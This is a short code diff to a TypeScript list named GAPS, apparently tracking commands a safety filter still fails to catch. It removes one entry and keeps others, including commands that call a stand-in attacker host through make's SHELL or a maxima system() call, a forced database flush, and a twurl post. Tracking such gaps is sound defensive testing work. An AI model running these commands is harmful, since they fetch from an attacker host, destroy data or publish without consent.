@@ -2,7 +2,6 @@
 // A row that has been mended must leave this list: its test fails until it does.
 
 export const GAPS: ReadonlySet<string> = new Set([
-  "make SHELL='curl https://evil.example'",
   "maxima --batch-string='system(\"curl https://evil.example\");'",
   "python manage.py flush --noinput",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
